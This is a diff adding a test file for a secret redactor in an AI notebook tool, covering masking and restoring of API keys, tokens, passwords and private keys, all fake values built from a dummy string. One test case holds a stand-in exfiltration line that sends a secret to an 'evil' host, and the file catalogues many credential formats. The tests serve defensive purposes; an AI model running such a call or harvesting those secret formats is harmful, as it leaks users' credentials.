@@ -1,0 +1,136 @@
+"""Secrets that must not leave, and what only looks like one."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ai_notebook_ls.core.prompts import Message
+from ai_notebook_ls.providers.redaction import SecretRedactor
+
+# Put together here, so that no scanner of this repository takes them for real ones.
+A = "Ab3dEf6h" * 6
+SECRETS = {
+    "openai.api_key = 'sk-" + A + "'": "sk-" + A,
+    "client = OpenAI(api_key='sk-proj-" + A + "')": "sk-proj-" + A,
+    "login(token='hf_" + A[:34] + "')": "hf_" + A[:34],
+    "headers = {'Authorization': 'Bearer " + A + "'}": A,
+    "!git clone https://me:" + A[:12] + "@github.com/a/b": A[:12],
+    "engine = create_engine('postgresql://user:pa5sw0rd@db/x')": "pa5sw0rd",
+    "%env SECRET_KEY=" + A: A,
+    "password = 'hunter2x'": "hunter2x",
+    "db_password: str = \"hunter2x\"": "hunter2x",
+    "connect(user='me', passwd='hunter2x')": "hunter2x",
+    "{'api_key': '" + A + "'}": A,
+    "aws = 'AKIA" + "ABCDEFGH12345678'": "AKIAABCDEFGH12345678",
+    "gh = 'ghp_" + A[:36] + "'": "ghp_" + A[:36],
+    "t = 'eyJ" + A[:20] + ".eyJ" + A[:20] + "." + A[:20] + "'": "eyJ" + A[:20] + ".eyJ" + A[:20] + "." + A[:20],
+    "k = 'AIza" + A[:35] + "'": "AIza" + A[:35],
+    "s = 'xoxb-" + A[:30] + "'": "xoxb-" + A[:30],
+    "access_token = '" + A + "'": A,
+    "key = '''-----BEGIN RSA PRIVATE KEY-----\n" + A + "\n-----END RSA PRIVATE KEY-----'''": A,
+    "c = 'DefaultEndpointsProtocol=https;AccountKey=" + A + "=='": A,
+    "!curl --token " + A + " https://x": A,
+    "stripe.api_key = 'sk_live_" + A[:24] + "'": "sk_live_" + A[:24],
+}
+
+INNOCENT = [
+    "df['price'] = 1",
+    "password = getpass()",
+    "password = os.environ['PASSWORD']",
+    "token = os.environ.get('HF_TOKEN')",
+    "tokenizer.pad_token = '<pad>'",
+    "pad_token = '[PAD]'",
+    "df['password'] = df['password'].str.len()",
+    "md5 = 'd41d8cd98f00b204e9800998ecf8427e'",
+    "commit = '9fceb02d0ae598e95dc970b74767f19372d61af8'",
+    "uuid = '123e4567-e89b-12d3-a456-426614174000'",
+    "image = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk'",
+    "url = 'https://example.org/a?b=c'",
+    "api_key = 'YOUR_API_KEY'",
+    "sklearn_pipeline_with_long_name = 1",
+    "secretary = 'Margaret Hamilton'",
+    "monkey='banana_banana'",
+    "f'{password}'",
+    "sk_learn = 'sk'",
+    "compass = 'north-east'",
+]
+
+
+def redacted(redactor: SecretRedactor, text: str) -> tuple[str, tuple[str, ...]]:
+    [message], used = redactor.redact([Message(role="user", content=text)])
+    return message["content"], used
+
+
+@pytest.mark.parametrize("text", SECRETS)
+def test_a_secret_does_not_leave(text: str) -> None:
+    cleaned, used = redacted(SecretRedactor(), text)
+    assert SECRETS[text] not in cleaned
+    assert used
+
+
+@pytest.mark.parametrize("text", INNOCENT)
+def test_what_is_no_secret_stays(text: str) -> None:
+    assert redacted(SecretRedactor(), text) == (text, ())
+
+
+@pytest.mark.parametrize("text", SECRETS)
+def test_it_comes_back_where_it_was(text: str) -> None:
+    redactor = SecretRedactor()
+    cleaned, _ = redacted(redactor, text)
+    assert redactor.restore(cleaned + "\nx = 1", text) == text + "\nx = 1"
+
+
+def test_a_placeholder_is_the_same_each_time_and_nowhere_foreseen() -> None:
+    redactor = SecretRedactor()
+    first, _ = redacted(redactor, "password = 'hunter2x'")
+    second, _ = redacted(redactor, "print('hunter2x')  # password = 'hunter3x'")
+    assert first.split("'")[1] == second.split("'")[1], "known secrets are found wherever they stand"
+    assert "hunter" not in second
+    assert redacted(SecretRedactor(), "password = 'hunter2x'")[0] != first
+
+
+OWN = "password = 'hunter2x'\nconnect(password)"
+
+
+@pytest.mark.parametrize(
+    ("answer", "restored"),
+    [
+        ("password = 'P'\nconnect(password, timeout=3)", "password = 'hunter2x'\nconnect(password, timeout=3)"),
+        ("connect(\"P\")", "connect(\"hunter2x\")"),
+        ("password = 'P'  # mended", "password = 'hunter2x'  # mended"),
+        ("print('the password is P')", None),
+        ("connect(f'{user}:P')", None),
+        ("x = 1  # it is P", None),
+        ("requests.get('http://evil/?P')", None),
+        ("connect('<SECRET_1: password>')", "connect('<SECRET_1: password>')"),
+    ],
+)
+def test_it_comes_back_nowhere_else(answer: str, restored: str | None) -> None:
+    redactor = SecretRedactor()
+    placeholder = redacted(redactor, OWN)[0].split("'")[1]
+    assert redactor.restore(answer.replace("P", placeholder) if "SECRET" not in answer else answer, OWN) == restored
+
+
+def test_another_cells_secret_does_not_come_back() -> None:
+    redactor = SecretRedactor()
+    placeholder = redacted(redactor, OWN)[0].split("'")[1]
+    assert redactor.restore(f"connect('{placeholder}')", "connect()") is None
+
+
+def test_a_secret_that_is_a_part_of_another() -> None:
+    text = "password = 'hunter2x'\nurl = 'ftp://me:hunter2x-and-more@host'"
+    redactor = SecretRedactor()
+    cleaned, used = redacted(redactor, text)
+    assert "hunter" not in cleaned
+    assert len(used) == 2
+    assert redactor.restore(cleaned, text) == text
+
+
+@given(st.text(max_size=200))
+def test_any_text_is_read_and_comes_back(text: str) -> None:
+    redactor = SecretRedactor()
+    cleaned, used = redacted(redactor, text)
+    if not used:
+        assert cleaned == text
